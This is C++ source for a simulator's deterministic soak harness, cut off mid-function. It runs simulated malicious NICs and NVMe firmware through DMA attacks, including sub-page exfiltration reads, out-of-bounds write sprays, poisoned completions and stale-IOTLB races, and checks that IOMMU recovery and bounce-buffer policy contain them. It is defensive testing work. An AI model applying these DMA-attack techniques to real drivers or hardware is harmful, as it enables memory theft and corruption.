  uint64_t flight_dropped = 0;        // ... overwritten before any snapshot
  // IncidentEngine::SummaryJson() at teardown (per-trigger / per-class
  // rollup); empty when the forensics leg is off.
  std::string incident_summary_json;
  // IncidentEngine::ReportsJson() at teardown — the full incident document
  // soak_cli --incident-out writes. Empty when the forensics leg is off.
  std::string incidents_json;

  // Deterministic: fixed field order, integers and fixed-precision doubles.
  std::string ToJson() const;
};

// Runs the full soak. The Machine lives and dies inside.
SoakReport RunSoak(const SoakConfig& config);

// The machine-wide telemetry trace of the last RunSoak call, as Hub trace
// CSV (tools/trace_cli timeline format). Captured only when `capture` was
// set before the run.
void SetTraceCapture(bool capture);
const std::string& LastTraceCsv();

}  // namespace spv::soak

#endif  // SPV_SOAK_SOAK_H_
