// spv::soak — the deterministic chaos-soak harness.
//
// One seeded run composes every stressor the simulator has — map/unmap
// churn, RX/TX echo traffic, a fault-injection plan, device abuse (wild DMA,
// lost TX completions, watchdog resets) and the paper's compound attacks
// (Poisoned TX, RingFlood) — over millions of simulated cycles, while
// spv::recovery quarantines and re-attaches the offenders. Every epoch ends
// with Machine::CheckInvariants(); the run fails loudly on the first
// violated invariant, leaked mapping or leaked page. The report is a
// deterministic JSON document: same seed + same config = byte-identical
// output, so CI can diff soak results like any other artifact.

#ifndef SPV_SOAK_SOAK_H_
#define SPV_SOAK_SOAK_H_

#include <cstdint>
#include <string>

#include "base/clock.h"

namespace spv::soak {

struct SoakConfig {
  uint64_t seed = 42;
  // The run ends at the first epoch boundary past this many simulated cycles.
  uint64_t target_cycles = 1'000'000;
  uint64_t max_epochs = 200'000;  // hard stop against runaway configs
  bool recovery_enabled = true;
  bool deferred = true;     // IOMMU invalidation mode (false = strict)
  bool fast_path = true;    // rcache + hash index + walk cache
  bool faults = true;       // arm the fault-injection plan
  bool attacks = true;      // mix Poisoned TX / RingFlood phases in
  uint32_t epoch_packets = 4;      // echo round-trips attempted per epoch
  uint32_t churn_maps = 8;         // map/unmap pairs per epoch
  uint32_t attack_interval = 64;   // epochs between attack phases
  uint32_t abuse_storm_epochs = 8;    // length of an abuse burst
  uint32_t abuse_calm_epochs = 56;    // quiet stretch between bursts
  // How often Machine::CheckInvariants() runs (1 = every epoch). The audit
  // walks every mapping, so sparser checks buy longer soaks per wall-second.
  uint32_t invariant_check_interval = 1;
};

struct SoakReport {
  bool ok = false;
  std::string failure;  // first invariant violation / leak, empty when ok

  uint64_t seed = 0;
  uint64_t epochs = 0;
  uint64_t sim_cycles = 0;

  // Workload volume.
  uint64_t echo_probes = 0;
  uint64_t echo_ok = 0;
  uint64_t churn_map_ops = 0;
  uint64_t churn_map_failures = 0;  // quarantine refusals + injected faults
  uint64_t abuse_ops = 0;
  uint64_t attack_runs = 0;
  uint64_t attack_successes = 0;
  uint64_t faults_injected = 0;

  // Recovery outcomes.
  uint64_t quarantines = 0;
  uint64_t reattach_attempts = 0;
  uint64_t permanent_detaches = 0;
  uint64_t fenced_accesses = 0;
  uint64_t shed_packets = 0;
  uint64_t invariant_checks = 0;
  // Fraction of echo probes answered: the availability the service kept
  // while its NIC was being quarantined and restored.
  double availability = 0.0;
  // Quarantine latency (cycles from trigger to fully-revoked) and downtime
  // (cycles from quarantine to re-attach), log2-bucket p50/p99 upper bounds.
  uint64_t quarantine_latency_p50 = 0;
  uint64_t quarantine_latency_p99 = 0;
  uint64_t downtime_p50 = 0;
  uint64_t downtime_p99 = 0;

  // Leak audit at teardown.
  uint64_t leaked_mappings = 0;
  uint64_t leaked_iova_entries = 0;

  // Deterministic: fixed field order, integers and fixed-precision doubles.
  std::string ToJson() const;
};

// Runs the full soak. The Machine lives and dies inside.
SoakReport RunSoak(const SoakConfig& config);

// The machine-wide telemetry trace of the last RunSoak call, as Hub trace
// CSV (tools/trace_cli timeline format). Captured only when `capture` was
// set before the run.
void SetTraceCapture(bool capture);
const std::string& LastTraceCsv();

}  // namespace spv::soak

#endif  // SPV_SOAK_SOAK_H_
