#include "soak/soak.h"

#include <cstdio>
#include <deque>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include <cstring>

#include "attack/attacks.h"
#include "attack/mini_cpu.h"
#include "base/exec.h"
#include "base/rng.h"
#include "base/status.h"
#include "base/types.h"
#include "core/machine.h"
#include "device/device_port.h"
#include "device/malicious_nic.h"
#include "dma/bounce_pool.h"
#include "fault/fault.h"
#include "net/layouts.h"
#include "nvme/malicious_nvme.h"
#include "nvme/nvme_driver.h"
#include "policy/policy.h"
#include "recovery/recovery.h"
#include "telemetry/telemetry.h"

namespace spv::soak {

namespace {

bool g_capture_trace = false;
std::string g_last_trace_csv;

// The harness's own entropy stream, independent of the machine seed so the
// workload schedule never perturbs in-machine draws (KASLR, fault streams).
constexpr uint64_t kHarnessSeedSalt = 0x50414b5f534f414bull;  // "PAK_SOAK"

// The driverless churn device (no NIC behind it, pure map/unmap traffic).
constexpr uint32_t kChurnDeviceId = 900;

// Per-CPU churn devices for the multi-CPU leg: device 910+c carries CPU c's
// parallel map/unmap stream so every CPU's IOVA magazines and flush-queue
// shard see traffic.
constexpr uint32_t kPerCpuChurnBase = 910;

// Trust-policy leg: the long-lived hostile device (keeps a bounce mapping
// parked across epochs so every invariant sweep audits a non-empty pool) and
// the base id for the hot-plug storms' throwaway hostiles.
constexpr uint32_t kResidentHostileId = 1900;
constexpr uint32_t kHotplugHostileBase = 2000;

// What the hostile probes plant and hunt. The secret sentinel fills a slab
// neighbour; seeing it through a hostile device's mapping is a type (d)
// leak. The legit mark is the one in-bounds device write that MUST survive
// bounce copy-out; the evil mark is sprayed across the rest of the
// device-visible page and must never reach kernel memory.
constexpr uint64_t kSecretSentinel = 0x534f414b'5f534543ull;  // "SOAK_SEC"
constexpr uint64_t kLegitMark = 0x424f554e'43453a31ull;       // "BOUNCE:1"
constexpr uint64_t kEvilMark = 0xdead5722'17e0fULL;

struct JsonWriter {
  std::string out = "{";
  bool first = true;

  void Key(const char* key) {
    if (!first) {
      out += ",";
    }
    first = false;
    out += "\"";
    out += key;
    out += "\":";
  }
  void Field(const char* key, uint64_t value) {
    Key(key);
    out += std::to_string(value);
  }
  void Field(const char* key, bool value) {
    Key(key);
    out += value ? "true" : "false";
  }
  void Field(const char* key, double value) {
    Key(key);
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%.6f", value);
    out += buf;
  }
  void Field(const char* key, const std::string& value) {
    Key(key);
    out += "\"" + telemetry::JsonEscape(value) + "\"";
  }
  // Nested object: `json` must already be a serialized JSON value.
  void Raw(const char* key, const std::string& json) {
    Key(key);
    out += json;
  }
  std::string Finish() {
    out += "}";
    return out;
  }
};

fault::FaultPlan MakeSoakFaultPlan() {
  // Low per-arm probabilities: the soak wants a steady drizzle of recoverable
  // faults underneath the deliberate abuse storms, not a machine that cannot
  // make forward progress.
  fault::FaultPlan plan;
  plan.Probability(fault::FaultSite::kSlabAlloc, 0.002)
      .Probability(fault::FaultSite::kPageFragAlloc, 0.002)
      .Probability(fault::FaultSite::kIovaAlloc, 0.001)
      .Probability(fault::FaultSite::kIotlbInvalidation, 0.01)
      .Magnitude(fault::FaultSite::kIotlbInvalidation, SimClock::UsToCycles(5))
      .Probability(fault::FaultSite::kNicRxDrop, 0.005)
      .Probability(fault::FaultSite::kNicRxTruncate, 0.005)
      .Probability(fault::FaultSite::kNicDescWriteback, 0.002)
      .Probability(fault::FaultSite::kNicRxRefillStarve, 0.01)
      .Probability(fault::FaultSite::kNvmeSqFetchCorrupt, 0.002)
      .Probability(fault::FaultSite::kNvmeCqPhaseFlip, 0.002)
      .Probability(fault::FaultSite::kNvmeCompletionDrop, 0.002)
      .Probability(fault::FaultSite::kNvmeShortTransfer, 0.002);
  return plan;
}

struct ChurnEntry {
  Iova iova;
  Kva kva;
  uint64_t len = 0;
};

}  // namespace

void SetTraceCapture(bool capture) { g_capture_trace = capture; }
const std::string& LastTraceCsv() { return g_last_trace_csv; }

SoakReport RunSoak(const SoakConfig& config) {
  SoakReport report;
  report.seed = config.seed;

  core::MachineConfig machine_config;
  machine_config.seed = config.seed;
  machine_config.iommu.mode =
      config.deferred ? iommu::InvalidationMode::kDeferred : iommu::InvalidationMode::kStrict;
  machine_config.iommu.fast_path.rcache_enabled = config.fast_path;
  machine_config.iommu.fast_path.hash_index_enabled = config.fast_path;
  machine_config.iommu.fast_path.walk_cache_enabled = config.fast_path;
  machine_config.telemetry.enabled = true;
  machine_config.telemetry.ring_capacity = 16384;
  machine_config.trace.enabled = true;
  if (config.faults) {
    machine_config.fault_plan = MakeSoakFaultPlan();
  }
  machine_config.recovery.enabled = config.recovery_enabled;
  // Soak-scale supervision timings: the default 10 ms backoff is 20M cycles,
  // which would park a quarantined device for most of a 1M-cycle run. Scaled
  // down (not off) so one soak crosses several full lifecycle transitions.
  machine_config.recovery.reattach_backoff_cycles = SimClock::UsToCycles(200);
  machine_config.recovery.probation_cycles = SimClock::UsToCycles(300);

  // Trust-policy leg: the quirks table is the soak's authorization database.
  // Hostile hot-plug identities are pinned kUntrusted *before* the inbox
  // wildcards (first match wins); the resident drivers enter as kTrusted —
  // their queue protocols assume zero-copy rings, and nic1 doubles as the
  // demotion subject: its first quarantine knocks it back to bounce-only and
  // every re-promotion drill must then break on the hysteresis cooldown.
  if (config.policy) {
    machine_config.policy.enabled = true;
    policy::Quirk evil_nic;
    evil_nic.match_model = "evil-nic";
    machine_config.policy.quirks.push_back(evil_nic);
    policy::Quirk evil_nvme;
    evil_nvme.match_model = "evil-nvme";
    evil_nvme.bounce_pages = 4;  // deliberately small: storms hit pool reuse
    machine_config.policy.quirks.push_back(evil_nvme);
    policy::Quirk inbox_nic;
    inbox_nic.match_class = "nic";
    inbox_nic.initial_trust = policy::TrustState::kTrusted;
    machine_config.policy.quirks.push_back(inbox_nic);
    policy::Quirk inbox_nvme;
    inbox_nvme.match_class = "nvme";
    inbox_nvme.initial_trust = policy::TrustState::kTrusted;
    machine_config.policy.quirks.push_back(inbox_nvme);
  }

  // Forensics leg: a pure observer, so recording changes no workload outcome
  // and the soak JSON stays byte-identical for a given seed either way.
  machine_config.forensics.enabled = config.forensics;

  // Multi-CPU leg: fast_path.num_cpus sizes the per-CPU magazines and flush
  // shards; exec decides whether RunOnCpus fans out to real host threads.
  const uint32_t num_cpus = config.num_cpus == 0 ? 1 : config.num_cpus;
  const bool multi_cpu = num_cpus > 1;
  machine_config.iommu.fast_path.num_cpus = num_cpus;
  machine_config.exec = config.threads ? ExecMode::kThreads : ExecMode::kSequential;

  core::Machine machine{machine_config};
  Xoshiro256 rng{config.seed ^ kHarnessSeedSalt};

  // nic0: the serving NIC — egress for the echo service and, per the paper's
  // threat model, the malicious device the compound attacks run from.
  net::NicDriver::Config nic0_config;
  nic0_config.name = "nic0";
  nic0_config.rx_ring_size = 32;
  nic0_config.rx_buf_len = 1728;
  const uint32_t nic_queues = config.nic_queues == 0 ? 1 : config.nic_queues;
  nic0_config.num_queues = nic_queues;
  for (uint32_t q = 0; q < nic_queues; ++q) {
    nic0_config.queue_cpus.push_back(CpuId{q % num_cpus});
  }
  net::NicDriver& nic0 = machine.AddNicDriver(nic0_config);
  device::MaliciousNic mnic0{device::DevicePort{machine.iommu(), nic0.device_id()}};
  mnic0.set_warm_iotlb_on_post(true);
  nic0.AttachDevice(&mnic0);
  machine.stack().set_egress(&nic0);

  // nic1: the abused NIC — its device fires wild DMA and starves completions,
  // driving the health score through the fault-storm path.
  net::NicDriver::Config nic1_config;
  nic1_config.name = "nic1";
  nic1_config.rx_ring_size = 16;
  nic1_config.tx_timeout_cycles = SimClock::MsToCycles(2);
  net::NicDriver& nic1 = machine.AddNicDriver(nic1_config);
  device::MaliciousNic mnic1{device::DevicePort{machine.iommu(), nic1.device_id()}};
  nic1.AttachDevice(&mnic1);

  // A driverless device carrying pure map/unmap churn; quarantined on a fixed
  // drill cadence to exercise the no-NIC recovery path.
  const DeviceId churn_dev{kChurnDeviceId};
  machine.iommu().AttachDevice(churn_dev);
  machine.recovery().RegisterDevice(churn_dev, nullptr);

  // Trust-policy leg: the resident hostile NIC — attached for the whole run,
  // never authorized, one bounce mapping parked across epochs so every
  // invariant sweep audits a pool with live traffic in it.
  policy::PolicyEngine* engine = machine.policy();
  const DeviceId resident_hostile{kResidentHostileId};
  std::optional<ChurnEntry> hostile_parked;
  if (engine != nullptr && config.hostile_hotplug) {
    machine.iommu().AttachDevice(resident_hostile);
    if (Status registered = engine->RegisterDevice(
            resident_hostile, policy::DeviceIdentity{"evil-nic", "nic"});
        !registered.ok()) {
      report.failure = "soak setup failed: resident hostile: " +
                       std::string(registered.message());
      return report;
    }
  }

  // Per-CPU churn devices + per-CPU RNG streams. Each CPU draws only from its
  // own stream, so kSequential runs are byte-deterministic and kThreads runs
  // share nothing but the (locked) machine itself.
  std::vector<Xoshiro256> cpu_rngs;
  std::vector<uint64_t> cpu_churn_ops(num_cpus, 0);
  std::vector<uint64_t> cpu_churn_failures(num_cpus, 0);
  if (multi_cpu) {
    for (uint32_t c = 0; c < num_cpus; ++c) {
      machine.iommu().AttachDevice(DeviceId{kPerCpuChurnBase + c});
      cpu_rngs.emplace_back(config.seed ^ kHarnessSeedSalt ^
                            (0x9e3779b97f4a7c15ull * (c + 1)));
    }
  }

  // nvme0: the storage leg — a block driver over hostile firmware. Calm
  // epochs carry honest write/read-verify traffic; storms flip the firmware
  // into Poisoned Completion (acknowledge first, transfer later, through
  // whatever stale window the unmap left behind) and forged-CQE bursts that
  // feed the health score until supervision fences the device.
  nvme::NvmeDriver* nvme0 = nullptr;
  std::optional<nvme::MaliciousNvme> mnvme;
  if (config.storage) {
    nvme::NvmeDriver::Config nvme0_config;
    nvme0_config.name = "nvme0";
    nvme0_config.io_queue_entries = 16;
    // Soak-scale timings, like the supervision backoffs above: the default
    // 5 s completion timeout is 10G cycles — several thousand soak epochs.
    nvme0_config.completion_timeout_cycles = SimClock::UsToCycles(400);
    nvme0_config.poll_deadline_cycles = SimClock::UsToCycles(40);
    nvme0 = &machine.AddNvmeDriver(nvme0_config);
    mnvme.emplace(device::DevicePort{machine.iommu(), nvme0->device_id()});
    mnvme->set_fault_engine(&machine.fault());
    mnvme->set_tracer(machine.tracer());
    mnvme->set_warm_iotlb(true);
    nvme0->AttachDevice(&*mnvme);
    // Bring-up runs under the drizzle; a corrupted admin fetch can sink one
    // attempt, so retry a couple of times before calling the setup broken.
    Status storage_up = InvalidArgument("unattempted");
    for (int attempt = 0; attempt < 3 && !storage_up.ok(); ++attempt) {
      storage_up = nvme0->Init();
    }
    if (!storage_up.ok()) {
      report.failure =
          "soak setup failed: nvme0: " + std::string(storage_up.message());
      return report;
    }
  }

  attack::MiniCpu cpu{machine.kmem(), machine.layout()};
  machine.stack().set_callback_invoker(&cpu);

  if (Result<Kva> sock = machine.stack().CreateSocket(7, true); !sock.ok()) {
    report.failure = "soak setup failed: echo socket: " + std::string(sock.status().message());
    return report;
  }
  // Ring fill may hit injected refill starvation mid-fill; that is workload,
  // not setup failure — RetryRefills() in the epoch loop finishes the job.
  (void)nic0.FillAllRxRings();
  (void)nic1.FillRxRing();
  attack::AttackEnv env{machine, nic0, mnic0, cpu};

  std::deque<ChurnEntry> churn_ledger;
  constexpr size_t kChurnLedgerCap = 16;
  bool ringflood_done = false;
  uint64_t hostile_plugged = 0;  // monotonic: every storm device gets a fresh id
  recovery::DeviceState last_state0 = recovery::DeviceState::kHealthy;
  recovery::DeviceState last_state1 = recovery::DeviceState::kHealthy;
  recovery::DeviceState last_state_nvme = recovery::DeviceState::kHealthy;

  // Completes every TX descriptor the serving device is sitting on; the echo
  // service's responses come back through here.
  auto drain_nic0_tx = [&]() {
    for (const net::TxPostedDescriptor& descriptor : mnic0.tx_posted()) {
      (void)machine.stack().OnTxCompleted(descriptor.index);
    }
    mnic0.tx_posted().clear();
  };

  auto fail = [&](std::string why) {
    report.failure = std::move(why);
    report.ok = false;
  };

  bool degraded_active = false;

  uint64_t epoch = 0;
  for (; epoch < config.max_epochs && machine.clock().now() < config.target_cycles; ++epoch) {
    const bool storm = (epoch % (config.abuse_storm_epochs + config.abuse_calm_epochs)) <
                       config.abuse_storm_epochs;

    // -- Degraded drill: demote the SERVING devices mid-run ---------------------
    //
    // One third of the way through, the trust engine yanks nic0 (the echo
    // service's NIC, mid-traffic) and nvme0 (with IO potentially in flight)
    // down to kUntrusted. Both drivers must absorb the live service-mode
    // switch — rings re-homed onto persistent sync'd bounce slots — and keep
    // answering probes; every probe from here on is also counted into the
    // degraded availability the floor assertion below grades.
    if (engine != nullptr && config.degraded_drill && !degraded_active &&
        machine.clock().now() >= config.target_cycles / 3) {
      degraded_active = true;
      (void)engine->Demote(nic0.device_id(), "soak degraded drill");
      if (config.storage) {
        (void)engine->Demote(nvme0->device_id(), "soak degraded drill");
      }
    }

    // -- Service traffic: echo round trips through nic0 -------------------------
    (void)nic0.RetryAllRefills();
    for (uint32_t p = 0; p < config.epoch_packets; ++p) {
      ++report.echo_probes;
      const uint64_t before = machine.stack().stats().echoed;
      net::PacketHeader header{.src_ip = 0x0a000002,
                               .dst_ip = machine.stack().config().local_ip,
                               .src_port = static_cast<uint16_t>(20000 + rng.NextBelow(1000)),
                               .dst_port = 7,
                               .proto = net::kProtoUdp};
      std::vector<uint8_t> payload(64 + rng.NextBelow(192),
                                   static_cast<uint8_t>(rng.NextBelow(256)));
      const uint32_t wire_len =
          static_cast<uint32_t>(net::PacketHeader::kSize + payload.size());
      if (nic_queues > 1) {
        // RSS steering: the same Toeplitz hash the driver programmed decides
        // which queue — and so which CPU's rings — this flow lands on.
        const uint32_t queue = nic0.QueueForFlow(net::FlowTuple{
            header.src_ip, header.dst_ip, header.src_port, header.dst_port});
        Result<net::RxPostedDescriptor> descriptor = mnic0.InjectRxOn(queue, header, payload);
        if (descriptor.ok()) {
          Result<net::SkBuffPtr> skb = nic0.CompleteRx(queue, descriptor->index, wire_len);
          if (skb.ok() && *skb != nullptr) {
            (void)machine.stack().NapiGroReceive(std::move(*skb));
            (void)machine.stack().NapiComplete();
          }
        }
      } else {
        Result<uint32_t> index = mnic0.InjectRx(header, payload);
        if (index.ok()) {
          Result<net::SkBuffPtr> skb = nic0.CompleteRx(*index, wire_len);
          if (skb.ok() && *skb != nullptr) {
            (void)machine.stack().NapiGroReceive(std::move(*skb));
            (void)machine.stack().NapiComplete();
          }
        }
      }
      drain_nic0_tx();
      const bool echoed = machine.stack().stats().echoed > before;
      if (echoed) {
        ++report.echo_ok;
      }
      if (degraded_active) {
        ++report.degraded_probes;
        if (echoed) {
          ++report.degraded_ok;
        }
      }
    }

    // One locally-originated packet per epoch: exercises SendPacket and, when
    // nic0 is quarantined, the stack's shed-don't-fail path.
    {
      net::PacketHeader out{.src_ip = machine.stack().config().local_ip,
                            .dst_ip = 0x0a000063,
                            .src_port = 4000,
                            .dst_port = static_cast<uint16_t>(1 + rng.NextBelow(60000)),
                            .proto = net::kProtoUdp};
      std::vector<uint8_t> body(128, 0x5a);
      (void)machine.stack().SendPacket(out, body);
      drain_nic0_tx();
    }

    // -- Storage traffic: block write/read-verify probes through nvme0 ----------
    if (config.storage) {
      mnvme->set_complete_before_transfer(storm);
      for (uint32_t p = 0; p < config.storage_probes; ++p) {
        ++report.nvme.probes;
        if (degraded_active) {
          ++report.degraded_probes;
        }
        static constexpr uint16_t kProbeShapes[] = {1, 4, 8, 24};
        const uint16_t nblocks = kProbeShapes[rng.NextBelow(4)];
        const uint64_t bytes = static_cast<uint64_t>(nblocks) * nvme::kLbaSize;
        const uint64_t span_blocks = mnvme->capacity_blocks() - nblocks;
        const uint64_t slba = rng.NextBelow(static_cast<uint32_t>(span_blocks));
        const uint8_t fill = static_cast<uint8_t>(rng.NextBelow(256));
        Result<Kva> buf = machine.slab().Kmalloc(bytes, "soak_storage");
        if (!buf.ok()) {
          ++report.nvme.shed_ios;
          continue;
        }
        std::vector<uint8_t> pattern(bytes, fill);
        bool round_trip = machine.kmem().Write(*buf, pattern).ok();
        if (round_trip && !nvme0->WriteBlocks(slba, nblocks, *buf).ok()) {
          ++report.nvme.shed_ios;
          round_trip = false;
        }
        if (round_trip) {
          std::vector<uint8_t> zero(bytes, 0);
          (void)machine.kmem().Write(*buf, zero);
          if (!nvme0->ReadBlocks(slba, nblocks, *buf).ok()) {
            ++report.nvme.shed_ios;
            round_trip = false;
          }
        }
        if (round_trip) {
          ++report.nvme.ok;
          if (degraded_active) {
            ++report.degraded_ok;
          }
          // Silent-corruption audit: under Poisoned Completion both data
          // phases were withheld, so the pattern never comes back — that is
          // the attack observable, not a harness failure.
          std::vector<uint8_t> got(bytes, 0);
          if (machine.kmem().Read(*buf, got).ok() && got != pattern) {
            ++report.nvme.verify_mismatches;
          }
        }
        (void)machine.slab().Kfree(*buf);
      }
      // Watchdog + poll sweep, then the stale-window half of the attack: the
      // firmware performs the data phases it acknowledged earlier, against
      // buffers the driver has since unmapped and freed.
      (void)nvme0->PollCompletions();
      (void)nvme0->CheckTimeouts();
      while (!mnvme->pending_transfers().empty()) {
        if (mnvme->ReplayPendingTransfer().ok()) {
          ++report.nvme.replays_landed;
        } else {
          ++report.nvme.replays_blocked;
        }
      }
      // Forged-CQE bursts: plausible-looking completions for CIDs that were
      // never issued. The driver rejects each one (kNvmeCompletionError),
      // and the health score walks toward quarantine.
      if (config.attacks && storm && epoch % 7 == 3) {
        for (int f = 0; f < 3; ++f) {
          const uint16_t bogus_cid =
              static_cast<uint16_t>(0x4000 + rng.NextBelow(128));
          if (mnvme->ForgePoisonedCompletion(nvme::kIoQid, bogus_cid,
                                             nvme::kScSuccess, 512)
                  .ok()) {
            ++report.nvme.forged_completions;
          }
        }
        (void)nvme0->PollCompletions();
      }
    }

    // -- Map/unmap churn on the driverless device -------------------------------
    for (uint32_t c = 0; c < config.churn_maps; ++c) {
      ++report.churn_map_ops;
      Result<Kva> buf = machine.slab().Kmalloc(2048, "soak_churn");
      if (!buf.ok()) {
        ++report.churn_map_failures;
        continue;
      }
      Result<Iova> iova = machine.dma().MapSingle(churn_dev, *buf, 2048,
                                                  dma::DmaDirection::kFromDevice, "soak_churn");
      if (!iova.ok()) {
        ++report.churn_map_failures;
        (void)machine.slab().Kfree(*buf);
        continue;
      }
      if (churn_ledger.size() < kChurnLedgerCap && rng.NextBelow(4) == 0) {
        // Parked: stays mapped across epochs (and across any quarantine).
        churn_ledger.push_back(ChurnEntry{*iova, *buf, 2048});
      } else {
        if (!machine.dma().UnmapSingle(churn_dev, *iova, 2048, dma::DmaDirection::kFromDevice)
                 .ok()) {
          ++report.churn_map_failures;
        }
        (void)machine.slab().Kfree(*buf);
      }
    }
    // Retire the oldest parked mapping. After a quarantine swept the device
    // the unmap comes back non-OK (the mapping is already gone) — expected;
    // the buffer is freed either way.
    if (!churn_ledger.empty() && rng.NextBelow(2) == 0) {
      ChurnEntry entry = churn_ledger.front();
      churn_ledger.pop_front();
      (void)machine.dma().UnmapSingle(churn_dev, entry.iova, entry.len,
                                      dma::DmaDirection::kFromDevice);
      (void)machine.slab().Kfree(entry.kva);
    }

    // -- Hostile hot-plug storms (trust-policy leg) -----------------------------
    //
    // A burst of never-authorized devices attaches, lands on kUntrusted, and
    // runs the paper's sub-page probes against slab-neighbour memory. Every
    // one of their transfers is diverted through the bounce pool, so:
    //   type (d): a page-wide read through the probe mapping sees only the
    //             scrubbed bounce page plus the probe's own bytes — the slab
    //             neighbour's secret sentinel must never appear;
    //   type (a): writes sprayed across the device-visible page outside the
    //             probe buffer land in bounce padding that copy-out discards
    //             — the neighbour's bytes must come through unchanged, while
    //             the one legit in-bounds write must still be delivered.
    if (engine != nullptr && config.hostile_hotplug && config.hotplug_interval != 0 &&
        epoch % config.hotplug_interval == config.hotplug_interval - 1) {
      // Rotate the resident hostile's parked bounce mapping first: retire the
      // old one (copy-out audited) and park a fresh one for coming epochs.
      if (hostile_parked.has_value()) {
        (void)machine.dma().UnmapSingle(resident_hostile, hostile_parked->iova,
                                        hostile_parked->len,
                                        dma::DmaDirection::kBidirectional);
        (void)machine.slab().Kfree(hostile_parked->kva);
        hostile_parked.reset();
      }
      if (Result<Kva> park = machine.slab().Kmalloc(1024, "soak_hostile_park");
          park.ok()) {
        Result<Iova> park_iova = machine.dma().MapSingle(
            resident_hostile, *park, 1024, dma::DmaDirection::kBidirectional,
            "soak_hostile_park");
        if (park_iova.ok()) {
          hostile_parked = ChurnEntry{*park_iova, *park, 1024};
        } else {
          (void)machine.slab().Kfree(*park);
        }
      }

      for (uint32_t h = 0; h < config.hotplug_devices; ++h) {
        const bool is_nvme = (hostile_plugged % 2) == 1;
        const DeviceId dev{kHotplugHostileBase +
                           static_cast<uint32_t>(hostile_plugged++)};
        machine.iommu().AttachDevice(dev);
        const policy::DeviceIdentity identity{is_nvme ? "evil-nvme" : "evil-nic",
                                              is_nvme ? "nvme" : "nic"};
        if (!engine->RegisterDevice(dev, identity).ok()) {
          (void)machine.iommu().DetachDevice(dev);
          continue;
        }
        ++report.policy.hotplug_attaches;
        device::DevicePort port{machine.iommu(), dev};

        // Two same-size slab objects allocated back-to-back: the secret is
        // the probe buffer's likely page neighbour — exactly the paper's
        // type (a)/(d) co-location setup.
        constexpr uint64_t kProbeLen = 192;
        Result<Kva> secret = machine.slab().Kmalloc(kProbeLen, "soak_secret");
        Result<Kva> probe = machine.slab().Kmalloc(kProbeLen, "soak_hostile_buf");
        if (secret.ok() && probe.ok()) {
          std::vector<uint8_t> secret_bytes(kProbeLen);
          for (size_t i = 0; i + 8 <= secret_bytes.size(); i += 8) {
            std::memcpy(&secret_bytes[i], &kSecretSentinel, 8);
          }
          (void)machine.kmem().Write(*secret, secret_bytes);
          std::vector<uint8_t> probe_bytes(kProbeLen, 0xa5);
          (void)machine.kmem().Write(*probe, probe_bytes);

          // ---- type (d): page-wide exfiltration read ----------------------
          if (Result<Iova> rd = machine.dma().MapSingle(
                  dev, *probe, kProbeLen, dma::DmaDirection::kToDevice,
                  "soak_hostile_read_probe");
              rd.ok()) {
            ++report.policy.subpage_read_probes;
            const Iova rd_page = rd->PageBase();
            for (uint64_t off = 0; off + 8 <= kPageSize; off += 8) {
              Result<uint64_t> word = port.ReadU64(rd_page + off);
              if (word.ok() && *word == kSecretSentinel) {
                ++report.policy.secret_leaks;
                break;
              }
            }
            (void)machine.dma().UnmapSingle(dev, *rd, kProbeLen,
                                            dma::DmaDirection::kToDevice);
          }

          // ---- type (a): off-the-end neighbour write ----------------------
          if (Result<Iova> wr = machine.dma().MapSingle(
                  dev, *probe, kProbeLen, dma::DmaDirection::kFromDevice,
                  "soak_hostile_write_probe");
              wr.ok()) {
            ++report.policy.subpage_write_probes;
            (void)port.WriteU64(*wr, kLegitMark);
            const Iova wr_page = wr->PageBase();
            const uint64_t probe_off = wr->page_offset();
            for (uint64_t off = 0; off + 8 <= kPageSize; off += 64) {
              if (off + 8 > probe_off && off < probe_off + kProbeLen) {
                continue;  // spray only *outside* the in-bounds window
              }
              (void)port.WriteU64(wr_page + off, kEvilMark);
            }
            (void)machine.dma().UnmapSingle(dev, *wr, kProbeLen,
                                            dma::DmaDirection::kFromDevice);
            std::vector<uint8_t> delivered(8, 0);
            if (machine.kmem().Read(*probe, delivered).ok() &&
                std::memcmp(delivered.data(), &kLegitMark, 8) == 0) {
              ++report.policy.bounce_rx_ok;
            }
            std::vector<uint8_t> neighbour(kProbeLen, 0);
            if (machine.kmem().Read(*secret, neighbour).ok() &&
                neighbour != secret_bytes) {
              ++report.policy.neighbour_corruptions;
            }
          }
        }
        if (probe.ok()) {
          (void)machine.slab().Kfree(*probe);
        }
        if (secret.ok()) {
          (void)machine.slab().Kfree(*secret);
        }
        if (engine->state(dev) == policy::TrustState::kUntrusted) {
          ++report.policy.hostile_still_untrusted;
        }
        if (engine->UnregisterDevice(dev).ok() &&
            machine.iommu().DetachDevice(dev).ok()) {
          ++report.policy.hotplug_detaches;
        }
      }
    }

    // -- Per-CPU churn: every CPU pushes map/unmap pairs through its own
    // IOVA magazines and flush-queue shard. kSequential visits CPUs in order
    // on one host thread; kThreads fans out to real workers (the TSan leg).
    if (multi_cpu) {
      machine.RunOnCpus(num_cpus, [&](CpuId cpu) {
        Xoshiro256& crng = cpu_rngs[cpu.value];
        const DeviceId dev{kPerCpuChurnBase + cpu.value};
        for (uint32_t c = 0; c < config.per_cpu_churn_maps; ++c) {
          ++cpu_churn_ops[cpu.value];
          const uint64_t len = 512 + (static_cast<uint64_t>(crng.NextBelow(4)) << 9);
          Result<Kva> buf = machine.slab().Kmalloc(len, "soak_cpu_churn");
          if (!buf.ok()) {
            ++cpu_churn_failures[cpu.value];
            continue;
          }
          Result<Iova> iova = machine.dma().MapSingle(
              dev, *buf, len, dma::DmaDirection::kFromDevice, "soak_cpu_churn");
          if (!iova.ok()) {
            ++cpu_churn_failures[cpu.value];
            (void)machine.slab().Kfree(*buf);
            continue;
          }
          if (!machine.dma().UnmapSingle(dev, *iova, len, dma::DmaDirection::kFromDevice).ok()) {
            ++cpu_churn_failures[cpu.value];
          }
          (void)machine.slab().Kfree(*buf);
        }
      });
    }

    // -- Cross-CPU stale-IOTLB race (the Fig 6 window, sharded flush queues):
    // CPU 0 maps, lets the device warm the translation, then deferred-unmaps
    // — parking the invalidation in CPU 0's shard. CPU 1 then churns its own
    // shard (which drains nothing of CPU 0's) and the device replays the
    // translation. A hit is the breach; the IOMMU's stale-access accounting
    // must flag it the moment it lands.
    if (multi_cpu && epoch % 13 == 5) {
      Result<Kva> race_buf = machine.slab().Kmalloc(2048, "soak_race");
      if (race_buf.ok()) {
        Result<Iova> race_iova = machine.dma().MapSingle(
            nic0.device_id(), *race_buf, 2048, dma::DmaDirection::kFromDevice, "soak_race");
